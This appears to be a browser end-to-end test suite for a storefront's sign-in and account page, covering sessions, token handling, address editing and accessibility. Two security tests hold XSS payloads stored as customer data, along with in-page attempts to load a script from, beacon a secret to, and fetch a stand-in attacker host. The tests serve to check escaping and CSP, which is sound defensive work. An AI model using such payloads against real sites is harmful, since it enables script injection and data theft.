// The storefront's page in a real browser: a customer signs in by password, looks, changes an address, and signs out.

import assert from 'node:assert/strict';
import { after, afterEach, before, describe, test } from 'node:test';
import { NOTHING, barriers, everythingIsShown, focused, kept, launch, open, picture, signInAs } from './browser.mjs';
import { BACK_OFFICE, LESLIE, RON, accessToken, claimsFor, mint, request, startStorefront } from './support.mjs';

const TOKENS = '**/v2/customers/tokens';
const WRONG = 'This e-mail address and this password don’t belong together. Look them over, and try again.';
const OVER = 'Your time here is over, so you have been signed out. Sign in to go on.';
const DAY = 24 * 60 * 60;

describe('the page', { timeout: 240_000 }, () => {
  let storefront, browser, opened;
  before(async () => {
    storefront = await startStorefront();
    browser = await launch();
  });
  after(async () => {
    await browser?.close();
    await storefront?.stop();
  });
  afterEach(async () => {
    await opened?.close();
    opened = undefined;
  });

  const visit = async (options) => {
    opened = await open(browser, storefront.origin, options);
    return opened.page;
  };
  const email = (page) => page.getByLabel('E-mail address');
  const password = (page) => page.getByLabel('Password', { exact: true });
  const submit = (page) => page.getByRole('button', { name: 'Sign in', exact: true });
  const alert = (page) => page.locator('#sign-in-alert');
  const status = (page) => page.getByRole('status');
  const title = (page) => page.getByRole('heading', { level: 1 });
  /** The store's back office. */
  const office = async (method, path, data) => {
    const answer = await request(storefront.origin, {
      method,
      path,
      headers: { authorization: `Bearer ${await accessToken(storefront.origin, BACK_OFFICE)}`, 'content-type': 'application/json' },
      body: data && JSON.stringify({ data }),
    });
    assert.ok(answer.status < 300, answer.text);
    return answer.json.data;
  };
  /** Somebody new, so that no test sees what another changed. */
  const register = async (name = 'Ann Perkins', address = {}) => {
    const person = { name, email: `${Math.random().toString(36).slice(2)}@pawnee.example`, password: 'a long enough one' };
    const { id } = await office('POST', '/v2/customers', { type: 'customer', ...person });
    await office('POST', `/v2/customers/${id}/addresses`, {
      type: 'address', name: 'Home', first_name: 'Ann', last_name: 'Perkins', line_1: '3 Elm Street', city: 'Pawnee',
      county: 'Wamapoke', postcode: '47998', country: 'US', ...address,
    });
    return { ...person, id };
  };

  // ---------------------------------------------------------------------------------------- in and out

  test('signs in by password, shows what is the customer\'s, and signs out', async () => {
    const page = await visit();
    assert.equal(await page.title(), 'Sign in · Storefront');
    await signInAs(page, RON);
    assert.equal(await page.title(), 'Your account · Storefront');
    assert.equal(await title(page).textContent(), `Hello, ${RON.name}`);
    assert.deepEqual(await page.locator('#details dd').allTextContents(), [RON.name, RON.email, 'with a password']);
    assert.deepEqual(await page.locator('#addresses h3').allTextContents(), ['Home', 'Office']);
    assert.equal(await page.locator('.order').count(), 10);
    assert.match(await page.locator('#session-end').textContent(), /^You are signed in until .+: (24 hours|23 hours and 59 minutes) left\.$/);
    assert.equal(await focused(page), 'greeting');

    await page.getByRole('button', { name: 'Sign out' }).click();
    assert.equal(await status(page).textContent(), 'You are signed out.');
    assert.equal(await focused(page), 'sign-in-title');
    assert.equal(await page.title(), 'Sign in · Storefront');
    // Neither hidden nor typed: nothing of the customer is left.
    const left = await page.evaluate(() => document.body.textContent + [...document.querySelectorAll('input')].map((one) => one.value));
    for (const text of [RON.name, RON.email, RON.password, 'Larch Road', 'Waffle iron']) assert.ok(!left.includes(text), text);
    opened.quiet();
  });

  test('says that a password is wrong, and lets it be tried again', async () => {
    const page = await visit();
    await email(page).fill(RON.email);
    await password(page).fill('saxophone');
    await submit(page).click();
    await alert(page).getByText(WRONG).waitFor();
    assert.equal(await focused(page), 'password');
    assert.equal(await password(page).getAttribute('aria-invalid'), 'true');
    await password(page).fill(RON.password);
    await password(page).press('Enter');
    await everythingIsShown(page);
    opened.quiet();
  });

  test('says the same of an e-mail address that nobody has', async () => {
    const page = await visit();
    await email(page).fill('nobody@pawnee.example');
    await password(page).fill('saxophone');
    await submit(page).click();
    await alert(page).getByText(WRONG).waitFor();
    opened.quiet();
  });

  test('asks for what was left empty, and sends nothing', async () => {
    const page = await visit();
    const sent = [];
    page.on('request', (one) => { if (one.url().endsWith('/tokens')) sent.push(one); });
    await submit(page).click();
    assert.equal(await page.locator('#email-error').textContent(), 'Enter your e-mail address.');
    assert.equal(await page.locator('#password-error').textContent(), 'Enter your password.');
    assert.equal(await focused(page), 'email');
    await email(page).fill(RON.email);
    await submit(page).click();
    assert.equal(await page.locator('#email-error').textContent(), '');
    assert.equal(await focused(page), 'password');
    assert.deepEqual(sent, []);
    opened.quiet();
  });

  test('shows the password to whoever wants to see it', async () => {
    const page = await visit();
    await password(page).fill('saxophone');
    const button = page.getByRole('button', { name: 'Show the password' });
    await button.click();
    assert.equal(await password(page).getAttribute('type'), 'text');
    assert.equal(await button.getAttribute('aria-pressed'), 'true');
    await button.click();
    assert.equal(await password(page).getAttribute('type'), 'password');
    opened.quiet();
  });

  // ---------------------------------------------------------------------------------------- what is kept

  test('keeps the token in memory alone: a reload signs out', async () => {
    const page = await visit();
    await signInAs(page, RON);
    assert.deepEqual(await kept(opened), NOTHING);
    assert.equal(page.url(), `${storefront.origin}/`);
    await page.reload();
    await submit(page).waitFor();
    assert.equal(await page.getByRole('button', { name: 'Sign out' }).count(), 0);
    opened.quiet();
  });

  test('shows nobody what was there to whoever comes back by the browser\'s button', async () => {
    const page = await visit();
    await signInAs(page, RON);
    await page.goto('about:blank');
    await page.goBack();
    await submit(page).waitFor();
    assert.ok(!(await page.evaluate(() => document.body.textContent)).includes(RON.name));
    opened.quiet();
  });

  test('shows what somebody wrote into their name and address as text', async () => {
    const attack = '<img src=x onerror="document.title=1">';
    const person = await register(attack, { name: attack, line_1: '<script>document.title=1</script>' });
    const page = await visit();
    await signInAs(page, person);
    assert.equal(await title(page).textContent(), `Hello, ${attack}`);
    assert.equal(await page.locator('#details dd').first().textContent(), attack);
    assert.equal(await page.locator('#addresses h3').textContent(), attack);
    await page.getByRole('button', { name: /^Change/ }).click();
    assert.equal(await page.getByLabel('What you call this address').inputValue(), attack);
    assert.equal(await page.locator('main img, main script').count(), 0);
    assert.equal(await page.title(), 'Your account · Storefront');
    opened.quiet();
  });

  test('could not run what somebody wrote into it, even if it tried', async () => {
    const page = await visit();
    const thrown = await page.evaluate(() => {
      const tried = [];
      for (const attempt of [
        () => { document.body.innerHTML = '<b>bold</b>'; },
        () => { document.body.append(Object.assign(document.createElement('script'), { textContent: 'document.title = 1' })); },
        () => { document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/' })); },
      ]) {
        try {
          attempt();
          tried.push('nothing');
        } catch (error) {
          tried.push(error.name);
        }
      }
      return tried;
    });
    assert.deepEqual(thrown, ['TypeError', 'TypeError', 'TypeError']);
    await page.evaluate(async () => {
      document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }));
      document.body.append(Object.assign(new Image(), { src: 'https://evil.example/?secret' }));
      await fetch('https://evil.example/').catch(() => {});
    });
    assert.equal(await page.title(), 'Sign in · Storefront');
    const directives = new Set(opened.violations.map((violation) => violation.split(' ')[0]));
    // So that the listener, which sees none everywhere else, is known to see them.
    assert.deepEqual([...directives].sort(), ['connect-src', 'img-src', 'require-trusted-types-for', 'style-src-elem']);
  });

  // ---------------------------------------------------------------------------------------- the end of a session

  test('tells the time left, warns, and signs out politely at the end', async () => {
    const page = await visit({ clock: true });
    await signInAs(page, LESLIE);
    await page.clock.fastForward((DAY - 2 * 60 * 60) * 1000);
    await page.locator('#session-end').getByText(/: (2 hours|1 hour and 59 minutes) left\.$/).waitFor();
    assert.equal(await status(page).textContent(), '');
    await page.clock.fastForward((2 * 60 * 60 - 280) * 1000);
    await status(page).getByText(/^You will be signed out in 5 minutes\./).waitFor();
    await page.clock.fastForward(280 * 1000);
    await status(page).getByText(OVER).waitFor();
    assert.equal(await focused(page), 'sign-in-title');
    await submit(page).waitFor();
    assert.ok(!(await page.evaluate(() => document.body.textContent)).includes(LESLIE.name));
    opened.quiet();
  });

  test('signs out politely when the store has revoked the token', async () => {
    const person = await register();
    const page = await visit();
    await signInAs(page, person);
    // Whoever else knows the password is out, and so is this page.
    await office('PUT', `/v2/customers/${person.id}`, { type: 'customer', password: 'another long one' });
    await page.getByRole('button', { name: 'Change the address Home' }).click();
    await page.getByLabel('City').fill('Eagleton');
    await page.getByRole('button', { name: 'Save' }).click();
    await status(page).getByText(OVER).waitFor();
    assert.equal(await focused(page), 'sign-in-title');
    await signInAs(page, { ...person, password: 'another long one' });
    opened.quiet();
  });

  test('signs out politely when the store calls the token expired', async () => {
    const page = await visit();
    await page.route(TOKENS, async (route) => {
      const answer = await route.fetch();
      const body = await answer.json();
      body.data.token = mint('compact', claimsFor(RON, { age: DAY + 1 }));
      await route.fulfill({ response: answer, json: body });
    });
    await email(page).fill(RON.email);
    await password(page).fill(RON.password);
    await submit(page).click();
    await status(page).getByText(OVER).waitFor();
    await submit(page).waitFor();
    opened.quiet();
  });

  // ---------------------------------------------------------------------------------------- when it goes wrong

  for (const [code, text] of [[429, 'That was a bit too often.'], [503, 'The store is very busy at the moment.']]) {
    test(`holds attempts back for as long as a ${code} says`, async () => {
      const page = await visit({ clock: true });
      let asked = 0;
      await page.route(TOKENS, async (route) => {
        asked += 1;
        if (asked > 1) return route.continue();
        const errors = [{ status: code, title: 'No', detail: 'not now' }];
        return route.fulfill({ status: code, headers: { 'retry-after': '90' }, json: { errors } });
      });
      await email(page).fill(RON.email);
      await password(page).fill(RON.password);
      await submit(page).click();
      await alert(page).getByText(text).waitFor();
      // Seen, and heard once.
      await alert(page).locator('[aria-hidden]').getByText('You can try again in 2 minutes.').waitFor();
      assert.equal(await alert(page).locator('.heard').textContent(), 'You can try again in 2 minutes.');
      assert.equal(await submit(page).getAttribute('aria-disabled'), 'true');
      await submit(page).click({ force: true });
      await password(page).press('Enter');
      await page.clock.fastForward(80_000);
      await alert(page).locator('[aria-hidden]').getByText(/^You can try again in \d seconds?\.$|^You can try again in 10 seconds\.$/).waitFor();
      assert.equal(asked, 1);
      await page.clock.fastForward(11_000);
      await status(page).getByText('You can try again now.').waitFor();
      assert.equal(await alert(page).textContent(), '');
      await submit(page).click();
      await everythingIsShown(page);
      assert.equal(asked, 2);
      opened.quiet();
    });
  }

  test('says that one is offline, and that the store can\'t be reached', async () => {
    const page = await visit();
    await signInAs(page, RON);
    await opened.context.setOffline(true);
    await page.getByRole('button', { name: 'Show more orders' }).click();
    await page.locator('#orders [role=alert]').getByText(/You are offline\./).waitFor();
    assert.equal(await page.locator('.order').count(), 10);
    await opened.context.setOffline(false);
    await page.route('**/v2/orders?*', (route) => route.abort('connectionrefused'));
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.locator('#orders [role=alert]').getByText(/The store can’t be reached at the moment\./).waitFor();
    await page.unroute('**/v2/orders?*');
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.getByText('Showing 20 of 45 orders.').first().waitFor();
    opened.quiet();
  });

  test('gets another access token when the store no longer takes the one it has, once', async () => {
    const page = await visit();
    const got = [];
    page.on('response', (answer) => got.push(`${answer.request().method()} ${new URL(answer.url()).pathname} ${answer.status()}`));
    await signInAs(page, RON);
    let dead = 1;
    await page.route('**/v2/orders?*', (route) => {
      const headers = route.request().headers();
      if (dead > 0) headers.authorization = 'Bearer of-yesterday';
      dead -= 1;
      return route.continue({ headers });
    });
    got.length = 0;
    await page.getByRole('button', { name: 'Show more orders' }).click();
    await page.getByText('Showing 20 of 45 orders.').first().waitFor();
    assert.deepEqual(got, ['GET /v2/orders 401', 'POST /oauth/access_token 200', 'GET /v2/orders 200']);

    dead = Infinity;
    got.length = 0;
    await page.getByRole('button', { name: 'Show more orders' }).click();
    await page.locator('#orders [role=alert]').waitFor();
    assert.deepEqual(got, ['GET /v2/orders 401', 'POST /oauth/access_token 200', 'GET /v2/orders 401']);
    opened.quiet();
  });

  // ---------------------------------------------------------------------------------------- orders, addresses

  test('shows orders with their items, ten at a time', async () => {
    const page = await visit();
    await signInAs(page, RON);
    const newest = page.locator('.order').first();
    assert.match(await newest.locator('h3').textContent(), /^[A-Z][a-z]+ \d{1,2}, \d{4}$/);
    assert.deepEqual(await newest.locator('.items span:first-child').allTextContents(), ['1 × Ring binder', '2 × Maple board', '3 × Waffle iron']);
    assert.equal(await newest.locator('.total .price').textContent(), '$247.46');
    for (const shown of [20, 30, 40, 45]) {
      await page.getByRole('button', { name: 'Show more orders' }).click();
      await status(page).getByText(`Showing ${shown} of 45 orders.`).waitFor();
      assert.equal(await page.locator('.order').count(), shown);
      // Where the new ones begin.
      const first = page.locator('.order').nth(Math.floor((shown - 1) / 10) * 10).locator('h3');
      assert.ok(await first.evaluate((heading) => heading === document.activeElement));
    }
    assert.equal(await page.getByRole('button', { name: 'Show more orders' }).count(), 0);
    opened.quiet();
  });

  test('says so to whoever has neither orders nor addresses', async () => {
    const person = await register();
    const [{ id }] = await office('GET', `/v2/customers/${person.id}/addresses`);
    await request(storefront.origin, {
      method: 'DELETE',
      path: `/v2/customers/${person.id}/addresses/${id}`,
      headers: { authorization: `Bearer ${await accessToken(storefront.origin, BACK_OFFICE)}` },
    });
    const page = await visit();
    await signInAs(page, person);
    await page.getByText('You have not given an address yet.').waitFor();
    await page.getByText('You have not ordered anything yet.').waitFor();
    opened.quiet();
  });

  test('changes an address, and sends only what was changed', async () => {
    const person = await register();
    const page = await visit();
    await signInAs(page, person);
    await page.getByRole('button', { name: 'Change the address Home' }).click();
    assert.equal(await focused(page), await page.getByRole('heading', { name: 'Change “Home”' }).getAttribute('id'));
    await page.getByLabel('Street and number').fill('  4 Elm Street ');
    await page.getByLabel('A word to whoever delivers').fill('Mind the dog.\nIt is small.');
    const [sent] = await Promise.all([
      page.waitForRequest((one) => one.method() === 'PUT'),
      page.getByRole('button', { name: 'Save' }).click(),
    ]);
    await status(page).getByText('The address “Home” is saved.').waitFor();
    const data = { type: 'address', line_1: '4 Elm Street', instructions: 'Mind the dog.\nIt is small.' };
    assert.deepEqual(sent.postDataJSON(), { data });
    assert.equal(await focused(page), 'Change the address Home');
    const [stored] = await office('GET', `/v2/customers/${person.id}/addresses`);
    assert.deepEqual([stored.line_1, stored.instructions, stored.city], [data.line_1, data.instructions, 'Pawnee']);
    opened.quiet();
  });

  test('tells by the field what an address can\'t have, whoever finds it out', async () => {
    const person = await register();
    const page = await visit();
    await signInAs(page, person);
    await page.getByRole('button', { name: 'Change the address Home' }).click();
    const field = (name) => page.getByLabel(name, { exact: true });
    const errorOf = async (name) => page.locator(`#${await field(name).getAttribute('aria-describedby')}`).textContent();
    // What the page sees by itself.
    await field('Postcode').fill('');
    await field('County').fill('  ');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByText('2 fields need another look.').waitFor();
    assert.equal(await errorOf('Postcode'), 'Postcode is needed.');
    assert.equal(await errorOf('County'), 'County is needed.');
    assert.equal(await field('Postcode').getAttribute('aria-invalid'), 'true');
    assert.equal(await focused(page), await field('Postcode').getAttribute('id'));
    // What the store alone knows.
    await field('County').fill('Wamapoke');
    await field('Postcode').fill('4'.repeat(33));
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByText('1 field needs another look.').waitFor();
    assert.equal(await errorOf('Postcode'), 'Postcode must have at most 32 characters.');
    assert.equal(await errorOf('County'), '');
    assert.equal(await focused(page), await field('Postcode').getAttribute('id'));
    await field('Postcode').fill('47999');
    await page.getByRole('button', { name: 'Save' }).click();
    await status(page).getByText('The address “Home” is saved.').waitFor();
    opened.quiet();
  });

  // ---------------------------------------------------------------------------------------- for everybody

  test('can be used by the keyboard alone, and shows where one is', async () => {
    const person = await register();
    const page = await visit();
    const tab = async (expected) => {
      await page.keyboard.press('Tab');
      assert.equal(await focused(page), expected);
      const outline = await page.evaluate(() => {
        const { outlineStyle, outlineWidth } = getComputedStyle(document.activeElement);
        return `${outlineStyle} ${outlineWidth}`;
      });
      assert.equal(outline, 'solid 3px', expected);
    };
    await tab('Skip to the content');
    await tab('email');
    await page.keyboard.type(person.email);
    await tab('password');
    await page.keyboard.type(person.password);
    await tab('show-password');
    await tab('Sign in');
    await page.keyboard.press('Enter');
    await everythingIsShown(page);
    assert.equal(await focused(page), 'greeting');
    await tab('Change the address Home');
    await page.keyboard.press('Space');
    for (let fields = 0; fields < 4; fields += 1) await page.keyboard.press('Tab');
    assert.ok(await page.getByLabel('Company').evaluate((one) => one === document.activeElement));
    await page.keyboard.type('Pawnee General');
    await page.keyboard.press('Enter');
    await status(page).getByText('The address “Home” is saved.').waitFor();
    await page.getByText('Pawnee General').waitFor();
    assert.equal(await focused(page), 'Change the address Home');
    await page.keyboard.press('Space');
    await page.keyboard.press('Tab');
    await page.keyboard.type('Away');
    await page.keyboard.press('Escape');
    assert.equal(await status(page).textContent(), 'Nothing was changed.');
    assert.equal(await focused(page), 'Change the address Home');
    await page.keyboard.press('Shift+Tab');
    assert.equal(await focused(page), 'sign-out');
    await page.keyboard.press('Enter');
    assert.equal(await focused(page), 'sign-in-title');
    opened.quiet();
  });

  for (const colorScheme of ['light', 'dark']) {
    test(`has no barrier that axe-core finds, on ${colorScheme} ground`, async () => {
      const page = await visit({ colorScheme });
      assert.deepEqual(await barriers(page), []);
      await picture(page, `${colorScheme}-signed-out`);
      await email(page).fill(RON.email);
      await password(page).fill('saxophone');
      await submit(page).click();
      await alert(page).getByText(WRONG).waitFor();
      assert.deepEqual(await barriers(page), []);
      await picture(page, `${colorScheme}-error`);
      await signInAs(page, RON);
      assert.deepEqual(await barriers(page), []);
      await picture(page, `${colorScheme}-signed-in`);
      await page.getByRole('button', { name: 'Change the address Office' }).click();
      await page.getByLabel('Postcode').fill('');
      await page.getByRole('button', { name: 'Save' }).click();
      await page.getByText('1 field needs another look.').waitFor();
      assert.deepEqual(await barriers(page), []);
      await picture(page, `${colorScheme}-editing`);
      await page.getByRole('button', { name: 'Sign out' }).click();
      assert.deepEqual(await barriers(page), []);
      await picture(page, `${colorScheme}-signed-out-again`);
      opened.quiet();
    });
  }

  for (const [what, { width, text = 1, colorScheme }] of Object.entries({
    'on a screen of 320 pixels': { width: 320, colorScheme: 'light' },
    'on a screen of 320 pixels, dark': { width: 320, colorScheme: 'dark' },
    'with text of twice the size': { width: 640, text: 2, colorScheme: 'light' },
  })) {
    test(`has nothing that runs out of it ${what}`, async () => {
      const page = await visit({ colorScheme, viewport: { width, height: 700 } });
      const name = `${width}-${colorScheme}`;
      await page.evaluate((size) => { document.documentElement.style.fontSize = `${size}%`; }, text * 100);
      const fits = async () => {
        const wide = await page.evaluate(() => document.documentElement.scrollWidth);
        assert.equal(wide, width);
      };
      await fits();
      await picture(page, `${name}-signed-out`);
      await signInAs(page, RON);
      await fits();
      await picture(page, `${name}-signed-in`);
      await page.getByRole('button', { name: 'Change the address Office' }).click();
      await fits();
      await picture(page, `${name}-editing`);
      opened.quiet();
    });
  }

  test('moves nothing for whoever asks for that', async () => {
    const page = await visit({ reducedMotion: 'reduce' });
    const moving = () => page.evaluate(() => [...document.querySelectorAll('*')]
      .filter((one) => getComputedStyle(one).transitionDuration !== '0s' || getComputedStyle(one).animationName !== 'none').length);
    assert.equal(await moving(), 0);
    await page.emulateMedia({ reducedMotion: 'no-preference' });
    assert.notEqual(await moving(), 0);
    opened.quiet();
  });
});
